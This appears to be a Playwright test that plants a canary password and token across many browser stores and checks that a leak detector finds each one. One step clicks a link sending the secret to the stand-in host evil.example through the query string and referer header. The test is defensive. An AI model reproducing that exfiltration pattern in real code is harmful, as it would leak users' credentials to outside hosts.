import { signInIsShown } from '#tests/pages/login.ts'
import { blankPage } from '#tests/support/storage.ts'
import { canary, expect, test } from './fixtures.ts'

// The search of the other files, in a page that tells a password wherever it can: each place is found.

// The entries of the history come from the DevTools protocol.
test.use({ needed: ['request bodies', 'DevTools protocol'] })

test('a secret that is planted in a place is found there', async ({ page, context, traces, expectConsole }) => {
  // The token that the test plants is refused, and has no refresh token beside it.
  expectConsole(/^No refresh token available$/)
  traces.add('password', canary)
  traces.add('access token', 'canary-token')
  await context.route('https://evil.example/**', (route) => route.fulfill({ body: 'x' }))
  await page.goto('/login')
  await signInIsShown(page)
  const cookie = { name: 'planted', value: encodeURIComponent(canary), domain: 'localhost', path: '/planted' }
  await context.addCookies([cookie])
  await page.evaluate(async (secret) => {
    // biome-ignore lint/suspicious/noConsole: The console is one of the places.
    console.info(`typed: ${secret}`)
    document.title = secret
    document.body.append(Object.assign(document.createElement('p'), { textContent: secret, id: 'planted' }))
    document.getElementById('planted')?.setAttribute('data-planted', 'canary-token')
    history.replaceState({ ...history.state, planted: secret }, '')
    localStorage.setItem('planted', secret)
    localStorage.setItem('token', 'canary-token')
    sessionStorage.setItem('planted', btoa(unescape(encodeURIComponent(secret))))
    new BroadcastChannel('planted').postMessage({ secret })
    window.postMessage({ secret: 'canary-token' }, '*')
    await (await caches.open('planted')).put('/planted', new Response(secret))
    await new Promise<void>((resolve, reject) => {
      const opening = indexedDB.open('planted')
      opening.onupgradeneeded = () => opening.result.createObjectStore('planted').put(secret, 'secret')
      opening.onerror = reject
      opening.onsuccess = () => {
        opening.result.close()
        resolve()
      }
    })
  }, canary)
  await traces.readStores(page)
  // A page without the policy, to which a secret was told, with the address of the page before.
  await page.goto(`${blankPage}?planted=${encodeURIComponent(canary)}`)
  await page.evaluate((secret) => {
    const link = Object.assign(document.createElement('a'), {
      href: `https://evil.example/?q=${encodeURIComponent(secret)}`,
    })
    link.referrerPolicy = 'unsafe-url'
    document.body.append(link)
    link.click()
  }, canary)
  await page.waitForURL('https://evil.example/**')
  expect(await traces.leaks()).toEqual([
    'access token in message',
    'access token in page',
    'password in /robots.txt: address',
    'password in IndexedDB',
    'password in cache',
    'password in console',
    'password in cookie',
    'password in https://evil.example: address',
    'password in https://evil.example: header referer',
    'password in localStorage planted',
    'password in message',
    'password in page',
    'password in sessionStorage planted',
    'password in state of the history',
    'password in title',
  ])
  expect(await traces.kindsSeen()).toEqual(['access token'])
})
